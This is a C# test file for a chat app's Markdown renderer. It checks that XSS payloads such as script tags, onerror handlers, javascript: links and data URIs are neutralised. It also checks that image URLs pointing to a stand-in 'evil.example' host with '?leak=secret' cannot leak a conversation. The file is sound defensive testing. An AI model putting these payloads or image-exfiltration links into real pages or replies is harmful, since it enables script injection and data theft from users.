using AngleSharp.Html.Parser;
using ChatBlazor.Web.Chat;

namespace ChatBlazor.Web.Tests.Chat;

public sealed class MarkdownRendererTests
{
    // Classic payloads (raw HTML, Markdown links and images, encodings, mixed case, protocol tricks): model output and
    // user input are untrusted alike.
    public static TheoryData<string> Payloads =>
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"&#106;avascript:alert(1)\">click</a>",
        "<details open ontoggle=alert(1)>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](javascript&#58;alert(1))",
        "[click]( javascript:alert(1) )",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(1))",
        "![x](x \"onerror=alert(1)\")",
        "<javascript:alert(1)>",
        "[a][ref]\n\n[ref]: javascript:alert(1)",
        "**bold <img src=x onerror=alert(1)>**",
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "```html\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void NoPayloadCanRunScript(string markdown)
    {
        var document = new HtmlParser().ParseDocument($"<body>{MarkdownRenderer.ToHtml(markdown)}</body>");

        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, (string[])["script", "iframe", "object", "embed", "svg", "math", "style", "form", "link", "meta"]);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{attribute.Name} on <{element.LocalName}> from {markdown}");
                Assert.NotEqual("style", attribute.Name);
                if (attribute.Name is "href" or "src" or "action" or "xlink:href")
                    Assert.Matches("^(https?:|mailto:|[^:]*$)", attribute.Value.Trim());
            }
        }
    }

    [Fact]
    public void CodeBlocksKeepTheirLanguageAndGetACopyButton()
    {
        var html = MarkdownRenderer.ToHtml("```csharp\nvar x = 1 < 2;\n```");

        var block = new HtmlParser().ParseDocument(html).QuerySelector("div.code-block")!;
        Assert.Equal("Copy", block.QuerySelector("button.copy-code")!.TextContent);
        Assert.Equal("language-csharp", block.QuerySelector("pre > code")!.ClassName);
        Assert.Equal("var x = 1 < 2;\n", block.QuerySelector("code")!.TextContent);
        // Highlighted, and the sanitizer kept the colour spans.
        Assert.Equal(["var", "1", "2"], block.QuerySelectorAll("code span").Select(s => s.TextContent));
        Assert.Equal("tok-kw", block.QuerySelector("code span")!.ClassName);
    }

    [Fact]
    public void TablesListsAndSafeLinksRender()
    {
        var document = new HtmlParser().ParseDocument(MarkdownRenderer.ToHtml("| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- [x] done\n\n[site](https://example.com)"));

        Assert.Equal(["a", "b"], document.QuerySelectorAll("th").Select(th => th.TextContent));
        Assert.Equal(2, document.QuerySelectorAll("li").Length);
        Assert.True(document.QuerySelector("input[type=checkbox]")!.HasAttribute("disabled"));
        var link = document.QuerySelector("a")!;
        Assert.Equal(("https://example.com", "_blank"), (link.GetAttribute("href"), link.GetAttribute("target")));
        Assert.Contains("noopener", link.GetAttribute("rel"));
    }

    private static readonly IReadOnlySet<string> NoImageHosts = new HashSet<string>();
    private static readonly IReadOnlySet<string> ImagesExampleCom = new HashSet<string> { "images.example.com" };

    private static AngleSharp.Html.Dom.IHtmlDocument Render(string markdown, IReadOnlySet<string> imageHosts) =>
        new HtmlParser().ParseDocument($"<body>{MarkdownRenderer.ToHtml(markdown, imageHosts)}</body>");

    // Every way Markdown (or HTML in it) can ask for an image from elsewhere: a tracking pixel, or a URL that carries
    // the conversation to a third party as soon as the reply is shown.
    [Theory]
    [InlineData("![chart](https://evil.example/p.png?leak=secret)")]
    [InlineData("![](http://evil.example/p.png)")]
    [InlineData("![x](//evil.example/p.png)")]
    [InlineData("![x](/p.png)")]
    [InlineData("![x][ref]\n\n[ref]: https://evil.example/p.png")]
    [InlineData("<img src=\"https://evil.example/p.png\">")]
    [InlineData("[![x](https://evil.example/p.png)](https://example.com)")]
    [InlineData("![x](https://images.example.com.evil.example/p.png)")]
    public void NoImageLoadsFromAHostNotAllowed(string markdown)
    {
        Assert.Empty(Render(markdown, ImagesExampleCom).QuerySelectorAll("img, [src], [srcset]"));
    }

    [Fact]
    public void AnImageBecomesALinkToItsUrlWithItsAltTextAsTheText()
    {
        var link = Render("See ![the chart](https://evil.example/p.png?leak=secret \"Chart\").", NoImageHosts).QuerySelector("a")!;

        Assert.Equal(("https://evil.example/p.png?leak=secret", "the chart"), (link.GetAttribute("href"), link.TextContent));
        Assert.Equal("_blank", link.GetAttribute("target"));
    }

    [Fact]
    public void AnImageWithoutAltTextBecomesALinkShowingItsUrl()
    {
        var link = Render("![](https://evil.example/p.png)", NoImageHosts).QuerySelector("a")!;

        Assert.Equal(("https://evil.example/p.png", "https://evil.example/p.png"), (link.GetAttribute("href"), link.TextContent));
    }

    [Fact]
    public void AnImageInsideALinkLeavesTheLinkWithTheAltText()
    {
        var document = Render("[![badge](https://evil.example/p.png)](https://example.com)", NoImageHosts);

        var link = Assert.Single(document.QuerySelectorAll("a"));
        Assert.Equal(("https://example.com", "badge"), (link.GetAttribute("href"), link.TextContent));
    }

    [Fact]
    public void AnHttpsImageFromAnAllowedHostStaysAnImage()
    {
        var document = Render("![diagram](https://Images.Example.com/d.png) ![plain](http://images.example.com/d.png)", ImagesExampleCom);

        var image = Assert.Single(document.QuerySelectorAll("img"));
        Assert.Equal(("https://Images.Example.com/d.png", "diagram"), (image.GetAttribute("src"), image.GetAttribute("alt")));
        Assert.Equal("http://images.example.com/d.png", document.QuerySelector("a")!.GetAttribute("href")); // not https: a link
    }
}
